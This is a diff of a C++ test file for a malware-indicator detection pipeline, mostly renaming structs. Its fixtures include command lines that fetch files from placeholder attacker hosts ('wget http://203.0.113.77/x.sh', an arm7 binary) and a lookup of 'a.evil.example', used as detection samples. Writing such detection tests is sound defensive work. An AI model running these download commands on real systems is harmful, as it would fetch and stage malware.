@@ -13,7 +13,7 @@ constexpr const char* kConnection = "Suspicious IP address communication";
 constexpr const char* kName = "Malicious Domain Name Request";
 
 /// Keeps the reasons beside the findings.
-struct ReasonSink : StoringSink {
+struct IndicatorReasonSink : StoringSink {
   using StoringSink::StoringSink;
   void on_finding(const Finding& f) override {
     StoringSink::on_finding(f);
@@ -28,7 +28,7 @@ struct Watch {
   PipelineContent::Builder builder;
   std::shared_ptr<const PipelineContent> content;
   std::unique_ptr<PipelineCore> core;
-  std::unique_ptr<ReasonSink> sink;
+  std::unique_ptr<IndicatorReasonSink> sink;
   std::uint32_t next_sequence = 0;
 
   Watch() {
@@ -39,7 +39,7 @@ struct Watch {
     texts.freeze();
     content = builder.build();
     core = std::make_unique<PipelineCore>(content, settings, texts);
-    sink = std::make_unique<ReasonSink>(*content);
+    sink = std::make_unique<IndicatorReasonSink>(*content);
     for (std::uint32_t d = 0; d < 3; ++d) core->register_device(DeviceId(d), ClassId(0), Duration(), kStart);
   }
   void send(Time time, std::vector<Observation> observations, std::uint32_t device = 0) {
@@ -55,10 +55,6 @@ std::shared_ptr<const IndicatorSet> set_of(std::initializer_list<const char*> va
   for (const char* value : values) builder.add(*read_value(value), words(source));
   return builder.seal();
 }
-Time minute(std::int64_t n) {
-  return kStart + Duration::minutes(n);
-}
-
 TEST(ShardIndicators, finds_what_a_command_line_downloads_and_says_why) {
   Watch w;
   const Observation url = exec(w.texts, minute(1), "wget http://a.example.com/bins/arm7");
@@ -145,13 +141,13 @@ TEST(ShardIndicators, a_text_that_was_judged_before_is_judged_again_by_a_new_set
   EXPECT_EQ(w.sink->alerts(), std::vector<std::string>{kDownload});
 }
 
-struct Story {
+struct IndicatorStory {
   Time found;
   std::vector<Evidence> evidence;
   IndicatorReason reason;
 };
 /// One story with the indicators known from the start, or at minute 90.
-std::vector<Story> run_story(bool early, bool kept) {
+std::vector<IndicatorStory> run_story(bool early, bool kept) {
   Watch w;
   const Observation query = at(minute(1), DnsRecord{w.texts.intern("a.evil.example"), false});
   const Observation wget = exec(w.texts, minute(2), "wget http://203.0.113.77/x.sh");
@@ -165,7 +161,7 @@ std::vector<Story> run_story(bool early, bool kept) {
   w.send(minute(6), kept ? std::vector{other, wget, flow(minute(6), "203.0.113.9", 80)} : std::vector{other}, 1);
   if (!early) w.core->reload_indicators(minute(90), listed);
   w.core->advance(minute(100), *w.sink);
-  std::vector<Story> out;
+  std::vector<IndicatorStory> out;
   for (std::size_t i = 0; i < w.sink->findings.size(); ++i) {
     out.push_back({w.sink->findings[i].time, w.sink->findings[i].evidence, w.sink->reasons[i]});
   }
@@ -173,8 +169,8 @@ std::vector<Story> run_story(bool early, bool kept) {
 }
 
 TEST(ShardIndicators, an_indicator_that_comes_late_finds_the_same_evidence_later) {
-  const std::vector<Story> early = run_story(true, true);
-  const std::vector<Story> late = run_story(false, true);
+  const std::vector<IndicatorStory> early = run_story(true, true);
+  const std::vector<IndicatorStory> late = run_story(false, true);
   const Duration delay = PipelineSettings{}.processing_delay;
   ASSERT_EQ(early.size(), 3U);
   ASSERT_EQ(late.size(), 3U);
